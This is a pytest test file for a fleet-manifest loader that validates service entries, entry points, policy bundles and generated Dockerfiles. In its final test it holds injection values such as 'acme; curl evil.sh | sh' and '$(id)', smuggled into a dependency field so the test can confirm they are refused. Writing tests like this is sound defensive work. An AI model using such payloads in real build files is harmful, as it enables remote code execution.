"""A user's fleet manifest: what it declares becomes service records beside the platform's core, and
what cannot run is refused before anything starts, with the file, the line and a fix."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from deploy.manifest import FleetManifest, ManifestError, compose_bundle, load
from deploy.render import project_files
from fleet.errors import ErrorCode

SPECIALIST = (
    "from fleet.settings import ServiceSettings\n\nasync def main(settings: ServiceSettings) -> None: ...\n"
)
GOOD = """\
[fleet]
name = "support"

[[specialists]]
id = "triage"
entry = "triage:main"
skills = ["triage-ticket"]
scopes = ["tickets:write"]
calls = ["mcp-tickets"]

[[mcp_servers]]
id = "mcp-tickets"
entry = "tickets:main"
resources = { memory_limit = "2Gi" }
env = { TICKETS_QUEUE = "tier-1" }
"""


def project(tmp_path: Path, manifest: str, **modules: str) -> Path:
    for name, source in {"triage": SPECIALIST, "tickets": SPECIALIST, **modules}.items():
        (tmp_path / f"{name}.py").write_text(source)
    path = tmp_path / "fleet.toml"
    path.write_text(textwrap.dedent(manifest))
    return path


def refused(tmp_path: Path, manifest: str, **modules: str) -> ManifestError:
    with pytest.raises(ManifestError) as caught:
        load(project(tmp_path, manifest, **modules))
    assert caught.value.code == ErrorCode.MANIFEST_INVALID
    return caught.value


def test_a_manifest_s_services_run_beside_the_platform_s_core(tmp_path: Path) -> None:
    manifest = load(project(tmp_path, GOOD))
    triage, server = manifest.services
    assert (triage.id, triage.kind, triage.entry, triage.skills) == (
        "triage",
        "specialist",
        "triage:main",
        ("triage-ticket",),
    )
    assert "tickets:write" in triage.scopes and "memory:write" in triage.scopes  # its own, and every agent's
    assert triage.calls == ("mcp-tickets",) and not triage.internet
    assert server.mcp_path == "/mcp" and server.needs.memory_limit == "2Gi" and server.needs.cpu == "100m"
    assert dict(server.env) == {"TICKETS_QUEUE": "tier-1"}
    roster = {spec.id for spec in manifest.roster(workers=2)}
    assert {
        "registry",
        "coordinator",
        "worker-1",
        "worker-2",
        "console",
        "mcp-memory",
        "triage",
        "mcp-tickets",
    } == roster
    with_demo = FleetManifest(manifest.path, manifest.name, manifest.services, None, demo_agents=True)
    assert {"sql-analyst", "mcp-sql", "triage"} <= {spec.id for spec in with_demo.roster(workers=1)}


def test_a_missing_module_or_function_is_refused_with_its_line_and_a_fix(tmp_path: Path) -> None:
    missing = refused(tmp_path, GOOD.replace('entry = "triage:main"', 'entry = "triage_agent:main"'))
    assert missing.details["line"] == 6 and "no module triage_agent" in missing.message
    assert "create triage_agent.py beside fleet.toml" in missing.details["fix"]
    no_function = refused(tmp_path, GOOD, tickets="async def serve(settings): ...\n")
    assert no_function.details["line"] == 13 and "defines no function main" in no_function.message
    shape = refused(tmp_path, GOOD.replace('"tickets:main"', '"tickets.main"'))
    assert shape.details["line"] == 13 and "module:function" in shape.message


def test_an_installed_package_s_module_is_found_too(tmp_path: Path) -> None:
    manifest = load(
        project(tmp_path, GOOD.replace('entry = "tickets:main"', 'entry = "mcp_servers.kit:ToolServer"'))
    )
    assert manifest.services[1].entry == "mcp_servers.kit:ToolServer"


def test_a_duplicate_or_platform_service_id_is_refused(tmp_path: Path) -> None:
    twice = GOOD + '\n[[specialists]]\nid = "triage"\nentry = "triage:main"\nskills = ["other"]\n'
    duplicate = refused(tmp_path, twice)
    assert duplicate.details["line"] == 18 and "declared twice (first on line 5)" in duplicate.message
    for platform in ("coordinator", "sql-analyst", "worker-3", "postgres"):
        taken = refused(tmp_path, GOOD.replace('id = "triage"', f'id = "{platform}"'))
        assert taken.details["line"] == 5, platform


def test_unknown_keys_and_tables_are_refused_with_the_keys_there_are(tmp_path: Path) -> None:
    typo = refused(tmp_path, GOOD.replace("scopes = [", "scope = ["))
    assert (
        typo.details["line"] == 8
        and "unknown key 'scope'" in typo.message
        and "scopes" in typo.details["fix"]
    )
    table = refused(tmp_path, GOOD + "\n[[agents]]\nid = 'x'\n")
    assert table.details["line"] == 17 and "[[specialists]]" in table.details["fix"]
    syntax = refused(tmp_path, GOOD.replace('name = "support"', "name = support"))
    assert "not valid TOML" in syntax.message


def test_a_call_to_a_server_nobody_runs_or_a_skill_the_platform_owns_is_refused(tmp_path: Path) -> None:
    calls = refused(tmp_path, GOOD.replace('calls = ["mcp-tickets"]', 'calls = ["mcp-tickest"]'))
    assert calls.details["line"] == 5 and "mcp-tickest, which is no MCP server" in calls.message
    assert "mcp-tickets" in calls.details["fix"]
    demo = GOOD.replace('name = "support"', 'name = "support"\ndemo_agents = true')
    owned = refused(tmp_path, demo.replace('skills = ["triage-ticket"]', 'skills = ["invoice-totals"]'))
    assert "platform's own (sql-analyst offers it)" in owned.message
    none = refused(tmp_path, GOOD.replace('skills = ["triage-ticket"]', "skills = []"))
    assert "offers no skill" in none.message


def test_bad_values_are_refused_with_an_example(tmp_path: Path) -> None:
    cases = {
        'scopes = ["tickets:write"]': 'scopes = ["tickets write"]',
        'id = "mcp-tickets"': 'id = "tickets"',
        'resources = { memory_limit = "2Gi" }': 'resources = { memory_limit = "two gigs" }',
        'env = { TICKETS_QUEUE = "tier-1" }': "env = { queue = 1 }",
    }
    for good, bad in cases.items():
        error = refused(tmp_path, GOOD.replace(good, bad))
        assert error.details["line"] in (8, 12, 14, 15) and error.details["fix"], bad


def test_a_project_s_policy_is_checked_and_added_to_the_platform_s_bundle(tmp_path: Path) -> None:
    missing = refused(tmp_path, GOOD.replace('name = "support"', 'name = "support"\npolicy = "policy"'))
    assert missing.details["line"] == 3 and "does not exist" in missing.message
    (tmp_path / "policy").mkdir()
    (tmp_path / "policy" / "data.json").write_text("[1]")
    assert (
        "not a JSON object"
        in refused(tmp_path, GOOD.replace('name = "support"', 'policy = "policy"')).message
    )

    (tmp_path / "policy" / "data.json").write_text(
        json.dumps({"config": {"tools": {"mcp-tickets": {"open_ticket": {"scopes": ["tickets:write"]}}}}})
    )
    (tmp_path / "policy" / "support.rego").write_text("package support\n\nallow := true\n")
    manifest = load(project(tmp_path, GOOD.replace('name = "support"', 'policy = "policy"')))
    assert manifest.policy_dir == (tmp_path / "policy").resolve()
    platform = Path(__file__).resolve().parents[2] / "policy" / "bundles" / "fleet"
    bundle = compose_bundle(platform, manifest.policy_dir, tmp_path / "bundle")
    data = json.loads((bundle / "data.json").read_text())
    assert data["config"]["tools"]["mcp-tickets"]["open_ticket"] == {"scopes": ["tickets:write"]}
    assert "mcp-sql" in data["config"]["tools"]  # the platform's rules stay
    assert (bundle / "support.rego").is_file() and (bundle / "tools.rego").is_file()


def installed(site: Path, dist: str, module: str, entry_points: str) -> None:
    """A package installed in ``site`` as pip leaves one: its module, and its metadata with the
    entry points it publishes."""
    site.mkdir(exist_ok=True)
    (site / f"{module}.py").write_text(SPECIALIST)
    info = site / f"{dist.replace('-', '_')}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(textwrap.dedent(entry_points))


def test_an_installed_package_s_entry_points_name_services_and_workflows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site"
    installed(
        site,
        "acme-crm",
        "acme_crm",
        """\
        [agent_fleet.mcp_servers]
        crm = acme_crm:main

        [agent_fleet.workflows]
        follow-up = acme_crm:build
        """,
    )
    (site / "acme_crm.py").write_text(SPECIALIST + "\ndef build(): ...\n")
    monkeypatch.syspath_prepend(str(site))
    root = tmp_path / "project"
    root.mkdir()
    manifest = load(
        project(
            root,
            """\
            [[mcp_servers]]
            id = "mcp-crm"
            entry_point = "crm"
            scopes = ["crm:read"]

            [[workflows]]
            name = "follow-up"
            entry_point = "follow-up"
            """,
        )
    )
    (server,) = manifest.services
    assert (server.id, server.entry, server.scopes[-1]) == ("mcp-crm", "acme_crm:main", "crm:read")
    assert manifest.workflows == (("follow-up", "acme_crm:build"),)

    # None published under that name, in that group: refused with what to do.
    missing = refused(root, '[[specialists]]\nid = "crm-agent"\nentry_point = "crm"\nskills = ["crm"]\n')
    assert "no installed package publishes entry point 'crm' in agent_fleet.specialists" in missing.message
    assert missing.details["line"] == 3 and "pip install" in missing.details["fix"]
    both = refused(root, '[[mcp_servers]]\nid = "mcp-crm"\nentry = "tickets:main"\nentry_point = "crm"\n')
    assert "both entry and entry_point" in both.message
    # Two packages publishing one name differently: which one runs is not left to chance.
    installed(site, "other-crm", "other_crm", "[agent_fleet.mcp_servers]\ncrm = other_crm:main\n")
    twice = refused(root, '[[mcp_servers]]\nid = "mcp-crm"\nentry_point = "crm"\n')
    assert "acme-crm, other-crm" in twice.message


def test_the_project_s_image_installs_the_manifest_s_dependencies(tmp_path: Path) -> None:
    manifest = load(project(tmp_path, '[fleet]\ndependencies = ["acme-crm>=1.2,<2", "httpx[http2]"]\n'))
    dockerfile = project_files(manifest, tmp_path / "deployment")[tmp_path / "deployment" / "Dockerfile"]
    assert "RUN pip install --no-cache-dir 'acme-crm>=1.2,<2' 'httpx[http2]'\n" in dockerfile
    # Written into a RUN line: anything but a requirement is refused, not quoted and hoped for.
    for bad in ('"acme; curl evil.sh | sh"', '"-e ."', '"$(id)"', '"acme crm"'):
        error = refused(tmp_path, f"[fleet]\ndependencies = [{bad}]\n")
        assert error.details["line"] == 2 and "dependencies must be a list" in error.message
